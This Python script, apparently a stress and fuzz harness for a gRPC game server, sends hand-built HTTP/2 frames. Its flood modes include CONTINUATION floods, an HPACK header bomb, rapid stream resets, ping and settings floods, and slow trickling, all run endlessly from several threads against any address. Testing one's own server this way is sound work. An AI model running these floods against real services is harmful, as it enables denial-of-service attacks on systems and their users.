"""A client that speaks HTTP/2 by itself, frame by frame, and can do what gRPC's own client never does.

``python raw_http2.py KIND ADDRESS [TOKEN]`` floods an address until it is killed: on the connection of a
seat, if there is a token, and from six threads besides. ``python raw_http2.py random ADDRESS COUNT SEED``
makes connections that send random frames, and ends.
"""

import contextlib
import itertools
import os
import random
import socket
import ssl
import struct
import sys
import threading
import time
from collections.abc import Iterator, Sequence

DATA, HEADERS, PRIORITY, RST, SETTINGS, PUSH, PING, GOAWAY, WINDOW, CONTINUATION = range(10)
GREETING = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
REQUEST = [
    (":method", "POST"),
    (":scheme", "http"),
    (":path", "/wildscav.match.v1.Match/Play"),
    (":authority", "localhost"),
    ("content-type", "application/grpc"),
    ("te", "trailers"),
]
THREADS = 6
TLS = None
if os.environ.get("RAW_TLS"):  # whoever floods asks for no certificate
    TLS = ssl.create_default_context()
    TLS.check_hostname, TLS.verify_mode = False, ssl.CERT_NONE
    TLS.set_alpn_protocols(["h2"])


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def text(content: str) -> bytes:
    """A string as HPACK (RFC 7541, 5.2) has it, as it is."""
    length, size = len(content), b""
    if length >= 127:
        size, length = b"\x7f", length - 127
        while length >= 128:
            size, length = size + bytes([length % 128 + 128]), length // 128
    return size + bytes([length]) + content.encode()


def header_block(headers: Sequence[tuple[str, str]], kind: int = 0) -> bytes:
    """Headers as HPACK has them, by name: kind 0 leaves its table as it is, 64 adds them to it."""
    return b"".join(bytes([kind]) + text(name) + text(value) for name, value in headers)


def request(stream: int, extra: Sequence[tuple[str, str]] = ()) -> bytes:
    return frame(HEADERS, 4, stream, header_block([*REQUEST, *extra]))


def message(stream: int, content: bytes, flags: int = 0) -> bytes:
    return frame(DATA, flags, stream, b"\0" + struct.pack(">I", len(content)) + content)


def join(stream: int, token: str) -> bytes:
    """Begin a call that takes a seat; protobuf's bytes by hand: a Join of a token, for version 1."""
    inner = b"\x0a" + bytes([len(token)]) + token.encode() + b"\x10\x01"
    return request(stream) + message(stream, b"\x0a" + bytes([len(inner)]) + inner)


def connect(address: str) -> socket.socket:
    if address.startswith("unix:"):
        one = socket.socket(socket.AF_UNIX)
        one.connect(address.removeprefix("unix:"))
        return one
    host, _, port = address.rpartition(":")
    one = socket.create_connection((host, int(port)))
    return TLS.wrap_socket(one) if TLS else one


def greet(address: str) -> socket.socket:
    one = connect(address)
    one.sendall(GREETING + frame(SETTINGS, 0, 0))
    return one


ONCE_MORE: dict[str, bytes] = {  # floods that repeat the same bytes
    "ping": frame(PING, 0, 0, b"12345678") * 500,
    "ping-ack": frame(PING, 1, 0, b"12345678") * 500,
    "settings": frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 1000) * 10) * 100,
    "window": frame(WINDOW, 0, 0, struct.pack(">I", 1)) * 500,
    "priority": frame(PRIORITY, 0, 1, bytes(5)) * 500,
    "unknown": frame(200, 255, 0, bytes(16)) * 500,
    "empty-data": frame(DATA, 0, 1) * 500,
    "messages": message(1, b"") * 200,
    "large": frame(DATA, 0, 1, bytes(16_384)),
}
NAMED = header_block([("x", "y" * 4000)], 64)  # an entry of the table, which \xbe then repeats
LARGE = [(f"x{number}", "y" * 1000) for number in range(14)]


def calls(kind: str, stream: int) -> bytes:
    """What a flood does with each stream that it begins."""
    return {
        "continuation": frame(HEADERS, 0, stream) + frame(CONTINUATION, 0, stream) * 5000,
        "large-continuation": frame(HEADERS, 0, stream) + frame(CONTINUATION, 0, stream, bytes(16_000)) * 50,
        "headers": request(stream, LARGE),
        "bomb": frame(HEADERS, 4, stream, NAMED + b"\xbe" * 10_000),
        "reset": request(stream) + frame(RST, 0, stream, struct.pack(">I", 8)),
        "streams": request(stream),
        "no-method": frame(HEADERS, 5, stream, header_block([(":path", "/nothing")])),
    }[kind]


CALLS = ("continuation", "large-continuation", "headers", "bomb", "reset", "streams", "no-method")
VISITS = ("connect", "hold", "silent")
TRICKLE = frame(200, 0, 0, bytes(16_384))  # which is sent byte by byte
KINDS = (*VISITS, *ONCE_MORE, *CALLS, "trickle")


def pieces(kind: str) -> Iterator[bytes]:
    """What a flood sends, for ever, on a connection on which stream 1 is open."""
    for stream in itertools.count(101, 2):
        if kind == "trickle":
            yield from (TRICKLE[at : at + 1] for at in range(len(TRICKLE)))
        else:
            yield ONCE_MORE[kind] if kind in ONCE_MORE else calls(kind, stream)


def flood(kind: str, address: str) -> None:
    """Do one round of a flood from a connection of its own."""
    if kind == "connect":
        connect(address).close()
        return
    if kind in {"hold", "silent"}:
        held = [greet(address) if kind == "silent" else connect(address) for _ in range(50)]
        time.sleep(0.05)
        for one in held:
            one.close()
        return
    with greet(address) as one:
        one.sendall(request(1))
        for piece in pieces(kind):
            one.sendall(piece)


def flood_for_ever(kind: str, address: str) -> None:
    while True:
        try:
            flood(kind, address)
        except (ConnectionRefusedError, FileNotFoundError):
            time.sleep(0.01)  # nobody listens there any more
        except OSError:
            pass


def take_seat(kind: str, address: str, token: str) -> None:
    """Take a seat and flood from there, as far as the kind allows it."""
    with contextlib.suppress(OSError):
        one = greet(address)
        one.sendall(join(1, token))
        one.recv(65_536)
        time.sleep(0.3)  # the match has begun
        if kind not in VISITS:
            for piece in pieces(kind):
                one.sendall(piece)
    time.sleep(3600)


def random_frame(rng: random.Random, token: str) -> bytes:
    """One of the frames that a client may send, or nearly one, or none at all."""
    stream = rng.choice((0, 1, 1, 1, 3, 5, 2, 2**31 - 1))
    noise = rng.randbytes(rng.choice((0, 1, 4, 5, 6, 8, 30, 300)))
    return rng.choice(
        (
            frame(rng.randrange(12), rng.choice((0, 1, 4, 5, 8, 32, 255)), stream, noise),
            frame(rng.randrange(10), rng.randrange(256), stream, rng.randbytes(rng.choice((4, 8)))),
            frame(WINDOW, 0, stream, struct.pack(">I", rng.choice((0, 1, 2**31 - 1, 2**32 - 1)))),
            frame(SETTINGS, 0, 0, struct.pack(">HI", rng.randrange(8), rng.choice((0, 1, 2**16, 2**32 - 1)))),
            frame(RST, 0, stream, struct.pack(">I", 8)),
            frame(PING, rng.randrange(2), 0, bytes(8)),
            frame(DATA, rng.choice((0, 1, 8)), stream, noise),
            message(stream, noise, rng.randrange(2)),
            request(stream),
            join(stream, token),
            frame(HEADERS, rng.choice((0, 4, 5, 12, 36)), stream, noise),
            struct.pack(">I", rng.randrange(2**24))[1:] + noise,
        )
    )


def send_randomly(address: str, count: int, seed: int) -> None:
    """Make connections that send random frames, one after the other."""
    rng = random.Random(seed)  # noqa: S311
    for _ in range(count):
        frames = [random_frame(rng, "no-token") for _ in range(rng.randrange(1, 60))]
        beginning = b"" if rng.random() < 0.05 else GREETING + frame(SETTINGS, 0, 0)
        with contextlib.suppress(OSError), connect(address) as one:
            one.sendall(beginning + b"".join(frames))
            one.settimeout(0.01)
            while one.recv(65_536):
                pass


def main(kind: str, address: str, *more: str) -> None:
    if kind == "random":
        send_randomly(address, int(more[0]), int(more[1]))
        return
    for _ in range(THREADS):
        threading.Thread(target=flood_for_ever, args=(kind, address), daemon=True).start()
    if more:
        take_seat(kind, address, more[0])
    time.sleep(3600)


if __name__ == "__main__":
    main(*sys.argv[1:])
